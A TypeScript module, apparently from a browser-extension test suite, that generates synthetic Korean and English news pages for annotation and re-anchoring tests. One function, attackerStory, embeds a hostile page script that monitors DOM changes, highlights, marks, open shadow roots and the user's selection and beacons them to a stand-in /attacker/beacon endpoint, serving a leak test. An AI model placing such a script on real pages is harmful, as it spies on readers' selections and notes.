/**
 * Pages generated on the fly for the browser tests: the kinds of page a reader meets
 * that no fixture should have to store.
 */

const SENTENCES = [
  '시의회는 오늘 오후 본회의를 열어 내년도 예산안을 표결에 부쳤다.',
  '위원회는 교통과 주거 분야의 지출을 늘리는 데 합의했다고 밝혔다.',
  '전문가들은 재원 마련 방안이 아직 구체적이지 않다고 지적했다.',
  '시민단체는 공청회를 한 차례 더 열어야 한다고 요구했다.',
  '담당 국장은 다음 달까지 세부 계획을 내놓겠다고 말했다.',
];

/** A Korean article of `paragraphs` paragraphs, numbered so a test can find the last one. */
export function paragraphs(count: number): string {
  const out: string[] = [];
  for (let i = 1; i <= count; i++) {
    const body = Array.from({ length: 4 }, (_, j) => SENTENCES[(i + j) % SENTENCES.length]).join(' ');
    out.push(`<p>${i}번째 문단. ${body}</p>`);
  }
  return out.join('\n');
}

/**
 * A page of several megabytes, the way real ones get there: a huge inline state blob,
 * thousands of navigation links and comments, and a long article in the middle.
 */
export function largeArticlePage(targetBytes = 5_000_000): string {
  const nav = Array.from({ length: 3000 }, (_, i) => `<li><a href="/section/${i}">섹션 ${i}</a></li>`).join('');
  const comments = Array.from(
    { length: 4000 },
    (_, i) => `<li class="comment"><b>독자${i}</b><span>좋은 기사 감사합니다 ${i}</span><a href="/report/${i}">신고</a></li>`,
  ).join('');
  const head = `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>아주 긴 기사 - 대용량일보</title>
<meta property="og:site_name" content="대용량일보"><meta property="article:published_time" content="2026-02-03T08:00:00+09:00"></head>
<body><nav class="gnb"><ul>${nav}</ul></nav><main><article><h1>아주 긴 기사</h1><div class="article-body">${paragraphs(600)}
<p>마지막 문단입니다. 여기까지 읽었다면 대용량 페이지도 끝까지 추출된 것이다.</p></div></article>
<section class="comments"><h3>댓글</h3><ul>${comments}</ul></section></main>`;
  const filler = Math.max(0, targetBytes - Buffer.byteLength(head) - 200);
  const state = JSON.stringify({ cache: 'x'.repeat(filler) });
  return `${head}<script id="__STATE__" type="application/json">${state}</script></body></html>`;
}

/**
 * A news page that changes under the same URL, for re-anchoring: "base", "edited" (an ad
 * paragraph inserted before, a typo fixed inside the highlighted sentence) and "removed"
 * (the highlighted paragraph taken out).
 */
export function liveStory(variant: 'base' | 'edited' | 'removed'): string {
  const paragraphs = [
    '[서울=한빛일보] 정다은 기자 = 시의회는 오늘 오후 본회의를 열어 내년도 예산안을 표결에 부쳤다. 예산안은 찬성 28표, 반대 7표로 통과됐다.',
    variant === 'edited'
      ? '위원회는 교통과 주거 분야의 지출을 늘리는 데 합의했다고 밝혔다. 버스 노선 개편에는 120억원이 배정됐다.'
      : '위원회는 교통과 주거 분야의 지출을 늘리는 데 합의햇다고 밝혔다. 버스 노선 개편에는 120억원이 배정됐다.',
    '전문가들은 재원 마련 방안이 아직 구체적이지 않다고 지적했다. 한 교수는 "세수 전망이 지나치게 낙관적"이라고 말했다.',
    '시민단체는 공청회를 한 차례 더 열어야 한다고 요구했다. 담당 국장은 다음 달까지 세부 계획을 내놓겠다고 말했다.',
    '시는 예산안이 확정되면 다음 달부터 집행에 들어갈 예정이다. 의회는 상반기 집행 실적을 점검하기로 했다.',
  ];
  let body = paragraphs;
  if (variant === 'edited') body = ['[광고] 지금 구독하면 첫 달 무료! 한빛일보 프리미엄 멤버십을 만나 보세요.', ...paragraphs];
  if (variant === 'removed') body = paragraphs.filter((_, i) => i !== 2);
  return `<!doctype html><html lang="ko"><head><meta charset="utf-8"><title>시의회, 내년 예산안 통과 - 한빛일보</title>
<meta property="og:site_name" content="한빛일보"><meta property="article:published_time" content="2026-02-03T08:00:00+09:00"></head>
<body><nav class="gnb"><a href="/">홈</a> <a href="/politics">정치</a></nav><main><article><h1>시의회, 내년 예산안 통과</h1>
<div class="article-body">${body.map((p) => `<p>${p}</p>`).join('\n')}</div></article></main>
<footer>한빛일보 · 무단 전재 금지</footer></body></html>`;
}

/**
 * The live story with a hostile script (issue 14, item 6): it watches everything a page's own
 * script can — CSS.highlights, every node added to the document and its shadow root if open,
 * <mark> elements, the selection — and beacons what it finds to /attacker/beacon on the same
 * test server. The test then checks that nothing of a highlight or a note arrived.
 */
export function attackerStory(): string {
  const script = `(() => {
  const seen = new Set();
  const initial = new Set(document.querySelectorAll('*'));
  const send = (kind, data) => {
    const text = String(data).slice(0, 3000);
    if (seen.has(kind + ':' + text)) return;
    seen.add(kind + ':' + text);
    const url = '/attacker/beacon?k=' + encodeURIComponent(kind) + '&d=' + encodeURIComponent(text);
    if (!navigator.sendBeacon(url)) fetch(url).catch(() => {});
  };
  const describe = (n) => (n.outerHTML ?? n.textContent ?? '') + ' | text: ' + (n.innerText ?? n.textContent ?? '') + ' | shadow: ' + (n.shadowRoot ? n.shadowRoot.innerHTML : 'none or closed');
  send('hello', location.pathname);
  new MutationObserver((records) => {
    for (const r of records) {
      for (const n of r.addedNodes) send('added', describe(n));
      if (r.type === 'attributes') send('attribute', r.target.nodeName + ' ' + r.attributeName + '=' + r.target.getAttribute(r.attributeName));
      if (r.type === 'characterData') send('text-changed', r.target.data);
    }
  }).observe(document.documentElement, { subtree: true, childList: true, characterData: true, attributes: true });
  setInterval(() => {
    if (window.CSS && CSS.highlights) CSS.highlights.forEach((h, name) => h.forEach((r) => send('css-highlight', name + '=' + r.toString())));
    document.querySelectorAll('mark, [data-margin-hl], [data-margin-id]').forEach((m) => send('mark', m.outerHTML));
    for (const el of document.querySelectorAll('*')) {
      if (!initial.has(el)) send('new-element', describe(el));
      if (el.shadowRoot) send('open-shadow', el.shadowRoot.innerHTML);
    }
    const selected = getSelection() && getSelection().toString();
    if (selected) send('selection', selected);
    for (const sheet of document.styleSheets) { try { for (const rule of sheet.cssRules) send('css-rule', rule.cssText); } catch (e) {} }
  }, 150);
})();`;
  return liveStory('base').replace('</body>', `<script>${script}</script></body>`);
}

/**
 * An English story that changes under the same URL (issue 24, what changed since you highlighted
 * it): "base", and "edited" — a correction inside the second paragraph, the fourth paragraph
 * removed and a new paragraph added at the end. Names are made up.
 */
export function liveStoryEnglish(variant: 'base' | 'edited' | 'removed'): string {
  const edited = variant !== 'base';
  const paragraphs = [
    'HARBOURVILLE — The Harbourville city council approved next year’s budget on Tuesday after a long debate over ferry routes.',
    edited
      ? 'Mayor Alina Verhoeven said the ferry budget would rise by 4 percent, correcting an earlier figure given by her office.'
      : 'Mayor Alina Verhoeven said the ferry budget would rise by 7 percent, the largest increase in a decade.',
    'The Northgate Transit Authority will run two new routes from March, serving the islands twice an hour.',
    'Critics at the Harbourville Civic Forum said the plan leaves the night services unchanged.',
    'The council will review the spending in the autumn.',
  ];
  const body = edited ? [...paragraphs.filter((_, i) => i !== 3), 'Alina Verhoeven will present the timetable to residents next week.'] : paragraphs;
  return `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Harbourville council passes ferry budget - The Calder Gazette</title>
<meta property="og:site_name" content="The Calder Gazette"><meta property="article:published_time" content="2026-02-03T08:00:00+00:00"></head>
<body><nav><a href="/">Home</a></nav><main><article><h1>Harbourville council passes ferry budget</h1>
<div class="article-body">${body.map((p) => `<p>${p}</p>`).join('\n')}</div></article></main>
<footer>The Calder Gazette</footer></body></html>`;
}
